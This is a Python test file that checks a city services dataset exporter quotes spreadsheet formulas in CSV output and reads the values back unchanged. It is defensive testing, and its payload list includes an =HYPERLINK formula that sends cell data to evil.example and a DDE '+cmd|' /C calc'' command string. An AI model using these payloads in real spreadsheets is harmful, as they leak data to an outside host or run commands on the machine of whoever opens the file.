"""CSV formula injection: a staff-entered ``=HYPERLINK(…)`` is written as text a spreadsheet will not run, and
the dataset still reads back exactly."""

from __future__ import annotations

import csv
from pathlib import Path

from cityservices.kit.text import FORMULA_TRIGGERS, from_spreadsheet_safe, spreadsheet_safe
from cityservices.service_map.interchange.native import read_dataset, write_dataset
from tests.builders import make_dataset

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1", "'=already quoted", "'plain"]  # fmt: skip


def test_formula_cells_are_quoted_and_read_back_unchanged(tmp_path: Path) -> None:
    dataset = make_dataset()
    item = dataset.items[0]
    item.name = PAYLOADS[0]
    item.aliases = ["@SUM(1)"]
    dataset.departments[0].name = "+cmd|' /C calc'!A0"
    write_dataset(dataset, tmp_path / "out", name="t", created="2026-12-07")
    for path in (tmp_path / "out").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                for cell in row.values():
                    assert not (cell or "").startswith(FORMULA_TRIGGERS), (path.name, cell)
    reread, issues = read_dataset(tmp_path / "out")
    assert issues == []
    assert reread.items[0].name == PAYLOADS[0]
    assert reread.items[0].aliases == ["@SUM(1)"]
    assert reread.departments[0].name == "+cmd|' /C calc'!A0"


def test_spreadsheet_safe_round_trips_every_payload() -> None:
    for value in [*PAYLOADS, "", "'", "普通文字", "0532-80000001"]:
        safe = spreadsheet_safe(value)
        assert not safe.startswith(FORMULA_TRIGGERS)
        assert from_spreadsheet_safe(safe) == value
